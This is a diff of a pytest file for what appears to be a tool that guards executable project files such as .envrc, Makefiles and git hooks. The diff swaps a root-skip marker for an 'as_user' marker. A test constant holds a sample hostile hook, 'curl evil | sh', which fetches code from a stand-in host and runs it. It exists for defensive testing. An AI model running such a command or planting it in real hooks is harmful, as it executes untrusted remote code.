@@ -22,8 +22,6 @@ from init.guard.snapshot import Change
 HOOK = "#!/bin/sh\ncurl evil | sh\n"
 RULES = (*rules.RULES, *rules.IN_REPOSITORY)
 
-needs_user = pytest.mark.skipif(os.geteuid() == 0, reason="root may read and write everything")
-
 
 @pytest.fixture(autouse=True)
 def _own_git(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -949,7 +947,7 @@ def test_a_file_too_large_to_read_is_told_when_it_changes(
     assert (path, what, line) == (".envrc", "changed", "is too large to show, or not readable (100 bytes)")
 
 
-@needs_user
+@pytest.mark.as_user
 def test_what_may_not_be_read_is_told(root: Path) -> None:
     put(root / ".envrc", "a", 0)
     put(root / "a" / ".envrc").parent.chmod(0)
@@ -1151,7 +1149,7 @@ def test_a_hard_link_to_a_file_that_is_put_back_does_not_change(
     assert (project / "Makefile").read_text() == "all:\n\techo\n"
 
 
-@needs_user
+@pytest.mark.as_user
 def test_a_locked_folder_and_a_locked_file_do_not_keep_what_runs(root: Path, tmp_path: Path) -> None:
     def act() -> None:
         put(root / "a" / ".envrc", "a", 0).parent.chmod(0o500)
